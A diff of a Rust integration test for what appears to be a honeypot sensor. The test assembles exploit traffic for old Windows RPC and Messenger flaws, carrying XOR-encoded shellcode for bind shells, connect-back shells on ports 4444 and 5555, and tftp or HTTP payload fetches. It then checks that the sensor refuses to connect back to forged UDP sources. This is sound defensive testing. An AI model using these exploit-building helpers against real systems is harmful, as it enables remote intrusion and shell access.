@@ -851,6 +851,43 @@ fn forged_udp_source_is_never_contacted() {
         ]
     );
 
+    // The same from shellcode: a forged Messenger datagram whose XOR-encoded
+    // shellcode would connect back to FORGED. Refused, never contacted.
+    let octets = u32::from_le_bytes(forged.octets()) as u64;
+    let shellcode = xor8_encoded(nasm("connect_body", &[("IPLE", octets), ("PORT", 4444)]));
+    let (udp, port, msgs) = exploit_with_shellcode(Vector::Ms03_043, FORGED, to, &shellcode);
+    assert!(udp && port == 135);
+    let datagram = msgs[0].clone();
+    in_ns(&atk.0, move || {
+        send_forged_udp(forged, 1029, to, 135, &datagram)
+    })
+    .join()
+    .unwrap();
+    let seen = wait_for("shell_refused", &|e| {
+        matches!(e, SensorEvent::ShellRefused { .. })
+    });
+    match seen.last() {
+        Some(SensorEvent::ShellRefused {
+            attacker,
+            offer,
+            reason,
+            ..
+        }) => {
+            assert_eq!(*attacker, IpAddr::V4(forged));
+            assert_eq!(
+                serde_json::to_string(offer).unwrap(),
+                format!(r#"{{"kind":"connect_back","addr":"{FORGED}","port":4444}}"#)
+            );
+            assert_eq!(
+                *reason,
+                botscope_sensor::containment::Refusal::UnconfirmedSource {
+                    addr: IpAddr::V4(forged)
+                }
+            );
+        }
+        other => panic!("{other:?}"),
+    }
+
     // The same kind of instruction from a source that completed a
     // handshake is carried out: ATK connects (and leaves), then asks by
     // UDP to be connected back to on 4444, where it serves a synthetic
@@ -896,7 +933,10 @@ fn forged_udp_source_is_never_contacted() {
     }
     let _ = stop_tx.send(());
     let report = sensor.join().expect("sensor thread");
-    assert_eq!((report.refused, report.downloads_ok), (3, 1));
+    assert_eq!(
+        (report.refused, report.downloads_ok, report.shells),
+        (4, 1, 0)
+    );
     // The refusals are in the event log too, one JSON line each.
     let log = std::fs::read_to_string(tmp.path().join("sensor.jsonl")).unwrap();
     let logged = log
@@ -983,14 +1023,15 @@ fn winexec_body(command: &str) -> Vec<u8> {
 /// overwritten byte for byte, so every length stays right.
 fn exploit_with_shellcode(
     vector: Vector,
+    attacker: &str,
     victim: Ipv4Addr,
     shellcode: &[u8],
-) -> (u16, Vec<Vec<u8>>) {
-    let chars = shellcode.len().div_ceil(2) + 8;
+) -> (bool, u16, Vec<Vec<u8>>) {
+    let chars = shellcode.len() + 8; // room as ASCII or as UTF-16LE
     let marker = "Q".repeat(chars);
     let script = client_script(
         vector,
-        "10.203.1.2",
+        attacker,
         &victim.to_string(),
         None,
         None,
@@ -999,15 +1040,19 @@ fn exploit_with_shellcode(
         [9; 16],
         SmbIds::default(),
     );
-    assert!(!script.udp);
-    let wide: Vec<u8> = marker.bytes().flat_map(|b| [b, 0]).collect();
+    // DCE-RPC strings are UTF-16LE; the Messenger text (MS03-043) is not.
+    let needle: Vec<u8> = if script.udp {
+        marker.into_bytes()
+    } else {
+        marker.bytes().flat_map(|b| [b, 0]).collect()
+    };
     let mut placed = 0;
     let messages = script
         .messages
         .into_iter()
         .map(|mut m| {
-            if let Some(at) = m.windows(wide.len()).position(|w| w == wide) {
-                let region = &mut m[at..at + wide.len()];
+            if let Some(at) = m.windows(needle.len()).position(|w| w == needle) {
+                let region = &mut m[at..at + needle.len()];
                 region.fill(0x90);
                 region[..shellcode.len()].copy_from_slice(shellcode);
                 placed += 1;
@@ -1016,7 +1061,7 @@ fn exploit_with_shellcode(
         })
         .collect();
     assert_eq!(placed, 1, "the marker is in one message");
-    (script.port, messages)
+    (script.udp, script.port, messages)
 }
 
 /// Reads until the shell's prompt; returns everything read.
@@ -1304,7 +1349,7 @@ fn shell_sessions_in_namespaces() {
         let mut transcript = Vec::new();
         // (a) MS03-026 + bind shell on 4444.
         let victim = sensor_ip(0);
-        let (port, msgs) = exploit_with_shellcode(Vector::Ms03_026, victim, &bind_c);
+        let (_, port, msgs) = exploit_with_shellcode(Vector::Ms03_026, ATK, victim, &bind_c);
         // The exploit connection stays open, as a bot leaves it: the
         // sensor opens the shell when the client pauses (1 s), long before
         // the session's 30 s idle time would end it.
@@ -1347,7 +1392,7 @@ fn shell_sessions_in_namespaces() {
         // (b) MS04-011 + connect-back to the attacker's 5555, then tftp.
         let l = TcpListener::bind(format!("{ATK}:5555")).unwrap();
         let victim = sensor_ip(1);
-        let (port, msgs) = exploit_with_shellcode(Vector::Ms04_011, victim, &back_c);
+        let (_, port, msgs) = exploit_with_shellcode(Vector::Ms04_011, ATK, victim, &back_c);
         replay_tcp(SocketAddr::new(IpAddr::V4(victim), port), &msgs);
         let (mut s, from) = accept_within(&l, Duration::from_secs(30));
         assert_eq!(
@@ -1361,11 +1406,11 @@ fn shell_sessions_in_namespaces() {
         drop(s);
         // (b') MS03-026 + connect-back to a third party.
         let victim = sensor_ip(2);
-        let (port, msgs) = exploit_with_shellcode(Vector::Ms03_026, victim, &back3_c);
+        let (_, port, msgs) = exploit_with_shellcode(Vector::Ms03_026, ATK, victim, &back3_c);
         replay_tcp(SocketAddr::new(IpAddr::V4(victim), port), &msgs);
         // (c) MS03-039 whose shellcode fetches an HTTP URL.
         let victim = sensor_ip(3);
-        let (port, msgs) = exploit_with_shellcode(Vector::Ms03_039, victim, &http_c);
+        let (_, port, msgs) = exploit_with_shellcode(Vector::Ms03_039, ATK, victim, &http_c);
         replay_tcp(SocketAddr::new(IpAddr::V4(victim), port), &msgs);
         transcript
     });
